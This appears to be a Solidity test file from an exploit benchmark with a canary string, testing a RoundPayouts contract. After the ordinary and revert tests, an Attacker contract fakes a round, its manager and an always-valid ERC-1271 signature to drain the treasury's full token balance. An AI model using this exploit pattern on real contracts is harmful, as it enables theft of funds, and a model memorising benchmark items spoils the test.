// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./RoundPayouts.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-3e4449b0-ba76-42ee-9c94-89360c1a9ae8

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function addr(uint256 key) external returns (address);
    function expectRevert(bytes calldata reason) external;
}

contract Quest is ERC20 {
    constructor() ERC20("Quest", "QST") {
        _mint(msg.sender, 10_000_000e6);
    }
}

contract Round is IRound {
    address public immutable token;
    uint256 public immutable opensAt;
    address public immutable manager;

    constructor(address token_, uint256 opensAt_, address manager_) {
        (token, opensAt, manager) = (token_, opensAt_, manager_);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant TREASURY = address(0x72EA);
    address private constant IDA = address(0x1DA);
    uint256 private constant KEY = 0x3A4A6E2;
    uint256 private constant START = 1_779_000_000;
    uint256 private constant MONEY = 4_800_000e6;

    Quest private quest;
    RoundPayouts private payouts;
    Round private round;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        quest = new Quest();
        payouts = new RoundPayouts();
        round = new Round(address(quest), START, vm.addr(KEY));
        quest.transfer(TREASURY, MONEY);
        vm.startPrank(TREASURY);
        quest.approve(address(payouts), type(uint256).max);
        payouts.serve(round);
        vm.stopPrank();
        mallory = new Attacker(payouts, address(quest), TREASURY);
    }

    function _payout(uint256 amount, uint256 serial) private view returns (RoundPayouts.Payout memory) {
        return RoundPayouts.Payout(round, TREASURY, IDA, amount, START + 1 days, serial);
    }

    function _sign(uint256 key, RoundPayouts.Payout memory p) private returns (bytes memory) {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(key, payouts.hashOf(p));
        return abi.encodePacked(r, s, v);
    }

    function test_Regular() public {
        RoundPayouts.Payout memory p = _payout(200_000e6, 1);
        payouts.pay(p, _sign(KEY, p));
        require(quest.balanceOf(IDA) == 200_000e6 && payouts.paidBy(TREASURY) == 200_000e6, "paid");
        vm.warp(START + 1 days);
        p = _payout(1e6, 2);
        payouts.pay(p, _sign(KEY, p));
        require(payouts.spent(TREASURY, 2) && quest.balanceOf(IDA) == 200_001e6, "in time");
        vm.prank(TREASURY);
        payouts.strike(3);
        require(payouts.spent(TREASURY, 3) && payouts.roundOf(TREASURY) == round, "struck");
    }

    function test_RefusesPayouts() public {
        RoundPayouts.Payout memory p = _payout(1e6, 1);
        bytes memory signature = _sign(KEY, p);
        payouts.pay(p, signature);
        vm.expectRevert(abi.encodeWithSelector(RoundPayouts.Spent.selector, 1));
        payouts.pay(p, signature);
        p = _payout(1e6, 2);
        signature = _sign(0xBAD, p);
        vm.expectRevert(abi.encodeWithSelector(RoundPayouts.NotSigned.selector, vm.addr(KEY)));
        payouts.pay(p, signature);
        signature = _sign(KEY, p);
        vm.warp(START + 1 days + 1);
        vm.expectRevert(abi.encodeWithSelector(RoundPayouts.TooLate.selector, START + 1 days));
        payouts.pay(p, signature);
    }

    function test_RefusesRoundsThatAreNotOpen() public {
        RoundPayouts.Payout memory p = _payout(1e6, 1);
        p.round = new Round(address(quest), START + 1, vm.addr(KEY));
        vm.prank(TREASURY);
        payouts.serve(p.round);
        bytes memory signature = _sign(KEY, p);
        vm.expectRevert(abi.encodeWithSelector(RoundPayouts.NotOpen.selector, p.round));
        payouts.pay(p, signature);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(quest.balanceOf(address(mallory)) >= MONEY, "nothing gained");
    }

    function target() public view returns (address) {
        return address(payouts);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(quest);
    }
}

/// Is a round, its manager and the signature of its manager at once.
contract Attacker is IRound {
    RoundPayouts private payouts;
    address public token;
    address private treasury;

    constructor(RoundPayouts payouts_, address token_, address treasury_) {
        (payouts, token, treasury) = (payouts_, token_, treasury_);
    }

    function opensAt() external pure returns (uint256) {
        return 0;
    }

    function manager() external view returns (address) {
        return address(this);
    }

    function isValidSignature(bytes32, bytes calldata) external pure returns (bytes4) {
        return 0x1626ba7e;
    }

    function run() external {
        uint256 amount = IERC20(token).balanceOf(treasury);
        payouts.pay(RoundPayouts.Payout(this, treasury, address(this), amount, block.timestamp, 7), "");
    }
}
